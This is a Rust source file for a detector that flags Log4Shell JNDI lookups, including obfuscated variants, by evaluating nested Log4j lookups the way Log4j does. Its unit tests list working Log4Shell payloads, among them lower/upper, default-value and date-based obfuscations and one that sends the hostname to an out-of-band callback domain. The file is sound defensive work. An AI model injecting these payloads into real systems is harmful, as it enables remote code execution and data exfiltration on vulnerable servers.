//! JNDI lookups (Log4Shell, CVE-2021-44228): `${jndi:ldap://…}` and the obfuscations Log4j
//! itself resolves — `${${lower:j}ndi:…}`, `${${::-j}${::-n}di:…}`, `${env:X:-j}`,
//! `${date:'j'}` — found by evaluating the nested lookups the way Log4j would, innermost first,
//! rather than by listing spellings.

use super::prefilter::byte;

/// Lookups evaluated per value; each one removes a `${`, so this bounds the work on a value
/// made of thousands of them.
const LOOKUPS_MAX: usize = 128;

/// A `$` and a `{` are needed for any lookup.
pub(crate) fn candidate_by_bytes(kinds: u32) -> bool {
    kinds & byte::DOLLAR != 0 && kinds & byte::BRACE != 0
}

/// Whether evaluating the value's lookups produces a `jndi:` lookup.
pub(crate) fn detect(v: &[u8]) -> bool {
    if memchr::memmem::find(v, b"${").is_none() {
        return false;
    }
    let mut text = v.to_vec();
    for _ in 0..LOOKUPS_MAX {
        // The innermost lookup: the last `${` before the first `}` that closes one.
        let Some((open, close)) = innermost(&text) else { return false };
        let body = &text[open + 2..close];
        if starts_with_ignore_case(body, b"jndi:") {
            return true;
        }
        let value = resolve(body);
        text.splice(open..=close, value);
    }
    false
}

fn innermost(text: &[u8]) -> Option<(usize, usize)> {
    let mut search_from = 0;
    loop {
        let close = search_from + memchr::memchr(b'}', &text[search_from..])?;
        if let Some(open) = memchr::memmem::rfind(&text[..close], b"${") {
            return Some((open, close));
        }
        search_from = close + 1;
    }
}

fn starts_with_ignore_case(s: &[u8], prefix: &[u8]) -> bool {
    s.len() >= prefix.len() && s[..prefix.len()].eq_ignore_ascii_case(prefix)
}

/// What Log4j substitutes for a lookup body, as far as it matters for spelling `jndi`:
/// the default after `:-`, `lower:`/`upper:` applied, `date:` patterns' quoted text; any
/// other lookup (`${hostName}`, `${env:USER}`) becomes empty.
fn resolve(body: &[u8]) -> Vec<u8> {
    if let Some(i) = memchr::memmem::find(body, b":-") {
        return body[i + 2..].to_vec();
    }
    if starts_with_ignore_case(body, b"lower:") {
        return body[6..].to_ascii_lowercase();
    }
    if starts_with_ignore_case(body, b"upper:") {
        return body[6..].to_ascii_uppercase();
    }
    if starts_with_ignore_case(body, b"date:") {
        return body[5..].iter().copied().filter(|&b| b != b'\'').collect();
    }
    Vec::new()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn jndi(s: &str) -> bool {
        detect(s.as_bytes())
    }

    #[test]
    fn lookups_and_obfuscations() {
        for v in [
            "${jndi:ldap://x.example/a}",
            "${JNDI:rmi://x/a}",
            "${jndi:ldap://${hostName}.w63gecoroprj5um8ypnd7r6in9t0hseg3.oast.me/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
            "${${upper:j}${lower:N}di:dns://x}",
            "${j${date:'n'}di:ldap://x}",
            "Mozilla/5.0 ${jndi:ldap://x/a} Chrome",
        ] {
            assert!(jndi(v), "{v}");
        }
    }

    #[test]
    fn other_placeholders() {
        for v in ["${HOME}/bin", "${user.name}", "${7*7}", "price ${ 5 }", "${", "}${", "${jnd}i:"]
        {
            assert!(!jndi(v), "{v}");
        }
        // Thousands of nested lookups end within the bound.
        assert!(!jndi(&"${".repeat(5000)));
        assert!(!jndi(&"${a}".repeat(5000)));
    }
}
